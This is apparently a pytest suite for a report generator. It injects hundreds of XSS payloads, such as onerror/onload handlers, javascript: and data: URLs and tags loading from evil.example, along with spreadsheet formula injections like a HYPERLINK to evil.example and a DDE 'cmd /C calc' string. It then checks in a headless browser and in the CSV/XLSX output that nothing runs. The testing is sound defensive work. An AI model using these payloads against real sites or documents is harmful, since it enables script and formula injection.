"""Strangers' words in every field and every output, in a real Chromium that clicks every link: nothing runs or calls.

Reports are loaded several in a row as one document (each whole, head included), so that hundreds of payloads take
a minute. The same harness on a template that escapes nothing must catch many, or it is dead.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterator, Sequence
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest
from openpyxl import load_workbook

from audit.models import Audit, HouseStyle, Label
from reports.records import SHEETS
from reports.render import html
from reports.tables import csv_lines, tamed, to_json, untamed, xlsx
from reports.words import languages
from spiders.browser import find_browser
from tests.audits import NOW, keys_of, labels_of, snapshot_of
from tests.golden.make import AUDIT
from tests.test_safety import EVERY, HIDING, LINKS, PLAIN, poisoned

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page, Request, Route  # noqa: TID251

BROWSER = find_browser()
in_browser = pytest.mark.skipif(not BROWSER.path, reason="no browser on this machine")
ADDRESS = "https://report.example/"
IN_ONE = 13
"""Reports in one document."""
ALIVE = 30
"""Payloads that must get through where nothing is escaped."""

_BREAKS = ("", '">', "'>", "</title>", "</style>", "</script>", "-->", "</textarea>", "]]>")
_ELEMENTS = (
    "img src=x onerror=alert(1)",
    "svg onload=alert(1)",
    "svg/onload=alert`1`",
    "input autofocus onfocus=alert(1)",
    "select autofocus onfocus=alert(1)",
    "details open ontoggle=alert(1)",
    "video src=x onerror=alert(1)",
    "audio src=x onerror=alert(1)",
    "iframe onload=alert(1)",
    "iframe src=//evil.example/frame",
    "object data=//evil.example/object",
    "img src=//evil.example/pixel",
    "img srcset=//evil.example/set",
    "style onload=alert(1)",
    "link rel=stylesheet href=//evil.example/sheet",
    "a href=javascript:alert(1)",
    "body onload=alert(1)",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
)
_SIGNS = ("\t", "\n", "\u00a0", "\u200e", "\u2028", "\x01", "%20", "&#9;", "view-source:")
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *EVERY,
            *(f"{before}<{element}>" for before in _BREAKS for element in _ELEMENTS),
            *(f"{sign}{scheme}" for sign in _SIGNS for scheme in _SCHEMES),
            *(f'=HYPERLINK("https://evil.example/"&A{n},"{sign}")' for n, sign in enumerate("+-@|%", start=1)),
        )
    )
)

CLICK = """async () => {
  const left = [];
  document.addEventListener("click", event => {
    const link = event.target.closest && event.target.closest("a[href]");
    if (link && /^https?:$/.test(link.protocol)) { event.preventDefault(); left.push(link.href); }
  }, true);
  for (const element of document.querySelectorAll("a, area, button, summary, label, input")) {
    if (element.click) element.click();
    else element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
  }
  for (const element of document.querySelectorAll("*"))
    for (const name of element.getAttributeNames())
      if (name.startsWith("on")) element.dispatchEvent(new Event(name.slice(2)));
  await new Promise(done => setTimeout(done, 30));
  return {left, ran: window.ran || 0, audits: document.querySelectorAll("script#audit").length};
}"""
TRAP = """window.ran = 0;
for (const way of ["alert", "confirm", "prompt", "print"]) window[way] = () => { window.ran += 1; };"""


class Seen(NamedTuple):
    ran: int
    requests: tuple[str, ...]
    audits: int
    left: tuple[str, ...]
    """Links out that were clicked; the click is let go no further."""


class Harness:
    """One browser page that shows what it is given, and tells what that did."""

    def __init__(self, page: Page) -> None:
        self._page, self._html = page, ""
        self._requests: list[str] = []
        page.add_init_script(TRAP)
        page.context.route("**/*", self._answer)
        page.context.on("page", lambda opened: self._requests.append(f"window {opened.url}"))
        page.on("dialog", self._dismiss)

    def _dismiss(self, dialog: Dialog) -> None:
        self._requests.append("dialog")
        dialog.dismiss()

    def _answer(self, route: Route, request: Request) -> None:
        if request.url == ADDRESS and request.is_navigation_request() and request.frame == self._page.main_frame:
            route.fulfill(body=self._html, content_type="text/html; charset=utf-8")
        else:
            self._requests.append(request.url)
            route.abort()

    def show(self, text: str) -> Seen:
        self._html, self._requests = text, []
        from playwright.sync_api import Error  # noqa: TID251

        try:
            self._page.goto(ADDRESS)
            told = self._page.evaluate(CLICK)
        except Error:  # the page went elsewhere under the hands
            with suppress(Error):
                self._page.goto("about:blank")
            return Seen(0, (*self._requests, "left the page"), 0, ())
        return Seen(told["ran"], tuple(self._requests), told["audits"], tuple(told["left"]))


@pytest.fixture(scope="module")
def harness() -> Iterator[Harness]:
    from playwright.sync_api import sync_playwright  # noqa: TID251

    with sync_playwright() as playwright:
        sandbox = not (hasattr(os, "geteuid") and os.geteuid() == 0)
        browser = playwright.chromium.launch(executable_path=BROWSER.path, chromium_sandbox=sandbox)
        try:
            yield Harness(browser.new_page(locale="en-GB"))
        finally:
            browser.close()


@pytest.fixture(scope="module")
def small() -> Audit:
    """A few pages and one of everything beside them: every section has something to show."""
    audit = Audit.model_validate_json(AUDIT.read_text("utf-8"))
    serps = tuple(s for s in audit.snapshot.serps if s.id in ("s1", "s9"))
    kept = {f"{s.id}/{r.position}" for s in serps for r in s.results}
    keys = {result_id: key for result_id, key in audit.label_keys.items() if result_id in kept}
    snapshot = audit.snapshot.model_copy(update={"serps": serps})
    labels = {key: audit.labels[key] for key in keys.values()}
    return audit.model_copy(update={"snapshot": snapshot, "label_keys": keys, "labels": labels})


def dressed(audit: Audit, payload: str, language: str) -> str:
    """The report as it goes to paper too: every fold open, the stranger's text in the white label as well."""
    style = HouseStyle(
        agency=payload, logo=payload, accent=payload, footer=payload, contact=payload, disclaimer=payload
    )
    picture = {"s1": payload}
    return html(poisoned(audit, payload), style=style, language=language, expanded=True, pictures=picture)


def without_policy(report: str) -> str:
    bare, cut = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", report)
    assert cut >= 1
    return bare


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 250


@in_browser
@pytest.mark.parametrize("at", range(-(-len(PAYLOADS) // IN_ONE)))
def test_nothing_runs_and_nothing_is_asked_for(harness: Harness, small: Audit, at: int) -> None:
    """With the policy of the head and, harder, without it; the report's five languages in turn."""
    some = PAYLOADS[at * IN_ONE : (at + 1) * IN_ONE]
    language = languages()[at % len(languages())]
    reports = "\n".join(dressed(small, payload, language) for payload in some)
    for text in (reports, without_policy(reports)):
        seen = harness.show(text)
        assert (seen.ran, seen.requests) == (0, ())
        assert seen.audits == len(some), "a report ended before its end"
        assert len(seen.left) > len(some)
        assert [url for url in seen.left if not re.match(r"https?://[^/\\@]", url)] == []


def naive(payload: str) -> str:
    """A template that escapes nothing."""
    return (
        f'<title>{payload}</title><body><p title="{payload}">{payload}</p><p title={payload}>x</p>'
        f'<a href="{payload}">x</a><script>const data = {json.dumps(payload)}</script>'
    )


@in_browser
def test_the_harness_is_alive(harness: Harness) -> None:
    """The positive control: without escaping the same payloads run, and call out. On a busy machine more of them make
    the page leave before it is looked at: those ran too."""
    seen = [harness.show(naive(payload)) for payload in PAYLOADS[::2]]
    assert sum(bool(one.ran or one.requests) for one in seen) >= ALIVE
    assert sum(one.ran > 0 or "left the page" in one.requests for one in seen) >= ALIVE
    assert sum(bool(one.requests) for one in seen) >= ALIVE / 3


@in_browser
def test_the_policy_alone_stops_what_escaping_would_let_through(harness: Harness) -> None:
    """The second line of defence: escaping off, policy on."""
    policy = re.search(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", html(small_audit()))
    assert policy is not None
    for payload in PAYLOADS[::9]:
        assert harness.show(f"<!doctype html><head>{policy[0]}</head>{naive(payload)}").ran == 0, payload


def small_audit() -> Audit:
    return Audit.model_validate_json(AUDIT.read_text("utf-8"))


# ---------------------------------------------------------------- tables


@pytest.fixture(scope="module")
def rows() -> Audit:
    """An audit whose results hold one payload each, in every text a result and its label have."""
    pages = {("google", f"keyword {n}"): "+-0-!+-0o-" for n in range(-(-len(PAYLOADS) // 10))}
    snapshot = snapshot_of(pages)
    keys, labels = keys_of(snapshot), labels_of(snapshot)
    payloads = iter(PAYLOADS * 2)
    serps = []
    for serp in snapshot.serps:
        results = []
        for result in serp.results:
            text = next(payloads)
            told = {"title": text, "snippet": text, "url": text, "displayed_url": text, "source": text, "date": text}
            results.append(result.model_copy(update=told))
            key = keys[f"{serp.id}/{result.position}"]
            labels[key] = _hostile_label(labels[key], text)
        query = serp.query.model_copy(update={"keyword": serp.query.keyword + results[0].title})
        serps.append(serp.model_copy(update={"results": tuple(results), "query": query}))
    snapshot = snapshot.model_copy(update={"serps": tuple(serps)})
    audit = small_audit()
    return audit.model_copy(update={"snapshot": snapshot, "labels": labels, "label_keys": keys, "made_at": NOW})


def _hostile_label(label: Label, text: str) -> Label:
    return label.model_copy(
        update={"address": text, "note": text, "who": text, "because": (text, text), "language": text}
    )


def test_no_cell_of_a_workbook_is_a_formula(rows: Audit, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    xlsx(rows, path, agency=PAYLOADS[0])
    book = load_workbook(path)
    assert len(book.worksheets) == len(SHEETS)
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert len(cells) > 10 * len(PAYLOADS)
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert {cell.number_format for cell in cells if cell.data_type == "s"} == {"@"}, "text stays text when it is edited"
    links = [cell.hyperlink.target or cell.hyperlink.location for cell in cells if cell.hyperlink]
    assert [link for link in links if not re.match(r"https?://", link, re.IGNORECASE)] == []
    titles = {cell.value for cell in book.worksheets[0]["K"]}
    assert {"=cmd|' /C calc'!A0", "{{ 7*7 }}{% include 'base.html' %}{# x #}"} <= titles


def test_every_sheet_is_made_of_an_audit_poisoned_all_over(small: Audit, tmp_path: Path) -> None:
    for at, payload in enumerate((*PLAIN, *HIDING, *LINKS[:4])):
        path = tmp_path / f"{at}.xlsx"
        xlsx(poisoned(small, payload), path, agency=payload, language=languages()[at % len(languages())])
        types = {cell.data_type for sheet in load_workbook(path) for line in sheet.iter_rows() for cell in line}
        assert types <= {"s", "n", "d"}


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


@pytest.mark.parametrize("payloads", [PAYLOADS[at::8] for at in range(8)])
def test_no_cell_of_a_csv_runs_and_every_text_comes_back(small: Audit, payloads: Sequence[str]) -> None:
    for payload in payloads:
        lines = read("".join(csv_lines(poisoned(small, payload))))
        assert len({len(line) for line in lines}) == 1, "a stranger ended a row"
        risky = [cell for line in lines for cell in line if re.match(r"[=+\-@\t\r\n|%]", cell)]
        assert [cell for cell in risky if not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == []
        assert payload in {untamed(cell) for cell in lines[1]}, "the text of a title comes back as it was"


@pytest.mark.parametrize("text", PAYLOADS[::7], ids=lambda p: ascii(p)[:40])
def test_taming_is_undone_exactly(text: str) -> None:
    for cell in (text, f"'{text}", f"={text}", f"\u200b={text}", f"''{text}"):
        assert untamed(tamed(cell)) == cell


def test_json_gives_every_text_back(rows: Audit) -> None:
    assert Audit.model_validate_json(to_json(rows)) == rows
